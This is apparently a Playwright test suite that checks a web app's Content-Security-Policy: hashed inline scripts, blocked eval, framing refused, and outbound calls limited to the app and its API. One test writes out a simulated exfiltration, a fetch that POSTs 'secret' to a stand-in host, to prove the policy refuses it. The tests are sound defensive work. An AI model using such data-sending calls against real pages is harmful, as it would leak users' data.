import { createHash } from 'node:crypto';
import type { APIRequestContext, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { signIn } from './session';
import { expectNoPolicyViolations, policyViolations, watchPolicyViolations } from './smoke-checks';

/**
 * The Content-Security-Policy of the build (vite-plugins/csp.ts): a `<meta>` that lets run
 * only the app's own scripts and the inline ones it hashed, and the header `vite preview`
 * sends (vite-plugins/runtime-config.ts): `frame-ancestors 'none'` and a `connect-src` of
 * this origin and the API that the served config.json names. The smoke walk (smoke.spec.ts)
 * fails on any violation of a page of the app; these tests prove the policy is there and
 * enforced.
 */
const POLICY_META = 'meta[http-equiv="Content-Security-Policy"]';

/** The header policy for the API the served config.json names (its own origin for a path). */
async function expectedHeader(request: APIRequestContext) {
  const config = (await (await request.get('/config.json')).json()) as { apiUrl?: string };
  const api = /^https?:\/\//.test(config.apiUrl ?? '')
    ? ` ${new URL(config.apiUrl ?? '').origin}`
    : '';
  return `frame-ancestors 'none'; connect-src 'self'${api}`;
}

/** The texts of the document's inline scripts, as the browser parsed them. */
const inlineScriptTexts = (page: Page) =>
  page.evaluate(() =>
    [...document.scripts].filter((script) => !script.src).map((script) => script.text),
  );

const sha256 = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

for (const path of ['/login', '/apps/email', '/']) {
  test(`${path} is served with its policy: a hash per inline script, no framing, calls to the API`, async ({
    page,
    request,
  }) => {
    const response = await page.goto(path);
    expect(response?.headers()['content-security-policy']).toBe(await expectedHeader(request));

    // First in <head> after the charset: the policy covers every element after it.
    const html = (await response?.text()) ?? '';
    expect(html).toMatch(/<head>\s*<meta charset="UTF-8" \/>\s*<meta http-equiv="Content-Sec/);

    const policy = (await page.locator(POLICY_META).getAttribute('content')) ?? '';
    const directives = policy.split(/;\s*/);
    expect(directives.slice(1)).toEqual([
      "object-src 'none'",
      "base-uri 'self'",
      "form-action 'self'",
      "worker-src 'self' blob:",
    ]);
    const scripts = await inlineScriptTexts(page);
    // The skin script, the font preload, the route preloads and the prerendered login's boot.
    expect(scripts).toHaveLength(4);
    expect(directives[0]).toBe(`script-src 'self' ${scripts.map(sha256).join(' ')}`);
  });
}

test.describe('the policy is enforced', () => {
  // The probe below is answered by page.route, which a service worker would bypass: the demo's
  // worker registers when the page is idle and could take the probe's request first.
  test.use({ allowConsoleErrors: [/Content Security Policy/], serviceWorkers: 'block' });

  test('an injected inline script does not run, and the page reports it', async ({ page }) => {
    await watchPolicyViolations(page);
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expectNoPolicyViolations(page, 'before the injection');

    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injectedRan = true;';
      document.body.append(script);
      return (window as Window & { __injectedRan?: boolean }).__injectedRan === true;
    });
    expect(ran).toBe(false);
    await expect
      .poll(() => policyViolations(page))
      .toEqual([expect.stringMatching(/^script-src-elem refused inline at /)]);
  });

  test('a script of the site itself runs, but cannot turn strings into code', async ({ page }) => {
    // Code run through Playwright bypasses the policy: the probe is a file of this origin.
    await page.route('**/csp-probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body:
          'try { window.__probe = String(eval("1 + 1")); }' +
          ' catch (error) { window.__probe = error.name; }',
      }),
    );
    await watchPolicyViolations(page);
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = '/csp-probe.js';
      document.body.append(script);
    });
    await expect
      .poll(() => page.evaluate(() => (window as Window & { __probe?: string }).__probe))
      .toBe('EvalError');
    await expect
      .poll(() => policyViolations(page))
      .toEqual([expect.stringMatching(/^script-src refused eval at /)]);
  });

  test('the page calls only its own origin and the configured API', async ({ page }) => {
    await watchPolicyViolations(page);
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const outcome = await page.evaluate(() =>
      fetch('https://elsewhere.example.test/collect', { method: 'POST', body: 'secret' }).then(
        () => 'sent',
        (error: unknown) => (error instanceof TypeError ? 'refused' : String(error)),
      ),
    );
    expect(outcome).toBe('refused');
    await expect
      .poll(() => policyViolations(page))
      .toEqual([
        expect.stringMatching(/^connect-src refused https:\/\/elsewhere\.example\.test\/collect /),
      ]);
  });
});

test('config.json is revalidated, and the demo worker may pass any request through', async ({
  request,
}) => {
  const config = await request.get('/config.json');
  expect(config.headers()['cache-control']).toBe('no-cache');
  expect(config.headers()['content-type']).toContain('application/json');
  // A worker's own policy would apply to the requests it makes for the page (images of other
  // origins in an email): its script gets only the frame rule.
  const worker = await request.get('/mockServiceWorker.js');
  expect(worker.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
});

test('no other site can show the app in a frame', async ({ page, baseURL }) => {
  const app = `${baseURL}/login`;
  await page.route('http://outside.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>outside</title><iframe src="${app}"></iframe>`,
    }),
  );
  const framed = () =>
    page
      .frames()
      .find((frame) => frame !== page.mainFrame())
      ?.url();
  await page.goto('http://outside.example/');
  await expect.poll(framed).toBe('chrome-error://chromewebdata/');

  // The header is what refuses it: without it the same page shows in the frame.
  await page.route(app, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _policy, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await page.reload();
  await expect.poll(framed).toBe(app);
});

test('the demo signs in and its worker answers under the policy, with no violation', async ({
  page,
}) => {
  await watchPolicyViolations(page);
  await page.goto('/login');
  await signIn(page, 'admin');
  await expect(page).toHaveURL((url) => url.pathname === '/', { timeout: 30_000 });
  await page.goto('/apps/email');
  await expect(page.getByRole('region', { name: 'Caixa de entrada', exact: true })).toBeVisible();
  await expect
    .poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null), {
      timeout: 60_000,
    })
    .toBe(true);
  const status = await page.evaluate(() =>
    fetch('/apps/email/emails?folder=inbox', {
      headers: { Authorization: `Bearer ${localStorage.getItem('accessToken') ?? ''}` },
    }).then((response) => response.status),
  );
  expect(status).toBe(200);
  await expectNoPolicyViolations(page, 'signing in and reaching the demo worker');
});
